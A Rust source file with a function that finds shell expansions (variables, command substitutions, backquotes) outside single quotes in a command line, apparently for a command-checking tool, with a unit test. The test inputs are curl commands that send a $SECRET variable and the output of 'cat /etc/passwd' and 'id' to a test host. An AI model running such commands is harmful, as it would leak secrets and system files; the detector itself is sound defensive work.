//! Detection of shell expansions in a command line.

/// Finds what a shell would expand: `$NAME`, `${NAME}`, `$(...)` and backquotes outside of single
/// quotes. Returns at most 20.
pub(super) fn find(command: &str) -> Vec<String> {
    let mut found = Vec::new();
    let (mut single, mut double, mut escaped) = (false, false, false);
    for (at, character) in command.char_indices() {
        match character {
            _ if escaped => escaped = false,
            '\\' if !single => escaped = true,
            '\'' if !double => single = !single,
            '"' if !single => double = !double,
            '$' | '`' if !single => {
                let rest = command.get(at + 1..).unwrap_or_default();
                let name = |one: char| one.is_ascii_alphanumeric() || one == '_';
                let end = match rest.chars().next() {
                    Some('{') => rest.find('}').map_or(0, |end| end + 1),
                    Some('(') => 1,
                    _ => rest.find(|one| !name(one)).unwrap_or(rest.len()),
                };
                if end > 0 {
                    found.push(format!("{character}{}", rest.get(..end).unwrap_or_default()));
                }
            }
            _ => {}
        }
    }
    found.truncate(20);
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn shell_expansions_outside_single_quotes_are_found() {
        // Searches commands with variables and commands outside and inside of single quotes.
        let found = find(r#"curl https://a.test -d "s=$SECRET" -d t=${T} -d 'u=$U' -d v=\$V"#);
        assert_eq!(found, ["$SECRET", "${T}"]);
        let found = find(r#"curl https://a.test -d "s=$(cat /etc/passwd)" -d "t=`id`""#);
        assert_eq!(found, ["$(", "`id"]);
    }
}
